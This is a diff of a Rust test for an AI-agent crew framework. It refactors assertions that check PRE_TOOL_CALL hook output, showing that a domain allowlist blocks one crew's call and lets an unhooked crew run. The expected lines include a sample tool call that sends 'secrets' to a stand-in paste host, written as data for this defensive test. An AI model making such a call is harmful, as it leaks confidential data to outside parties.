@@ -204,20 +204,18 @@ mod tests {
         let blocked = "    PRE_TOOL_CALL  blocked the call: paste.example is not on this crew's allowlist [source: domain-allowlist] (1 hook ran)";
         let plain_ran =
             "    tool fetch_page runs with {\"url\":\"https://paste.example/upload?data=secrets\"}";
-        for expected in [
-            "global PRE_TOOL_CALL hooks: none",
-            "crew `research` PRE_TOOL_CALL hooks:",
-            "  ResearchCrew::validate_tool_inputs #[on] tools=[\"fetch_page\"] (crew ResearchCrew)",
-            "crew `plain` PRE_TOOL_CALL hooks: none",
-            blocked,
-            plain_ran,
-            "ResearchCrew instance refused 1 call(s)",
-        ] {
-            assert!(
-                lines.iter().any(|l| l == expected),
-                "missing {expected:?} in {lines:#?}"
-            );
-        }
+        crew_examples::assert_has_lines(
+            &lines,
+            &[
+                "global PRE_TOOL_CALL hooks: none",
+                "crew `research` PRE_TOOL_CALL hooks:",
+                "  ResearchCrew::validate_tool_inputs #[on] tools=[\"fetch_page\"] (crew ResearchCrew)",
+                "crew `plain` PRE_TOOL_CALL hooks: none",
+                blocked,
+                plain_ran,
+                "ResearchCrew instance refused 1 call(s)",
+            ],
+        );
         // The block comes in the first crew's part, the plain run in the second's.
         let position = |wanted: &str| lines.iter().position(|l| l == wanted);
         let plain_start = position("== crew `plain`").expect("plain crew heading");
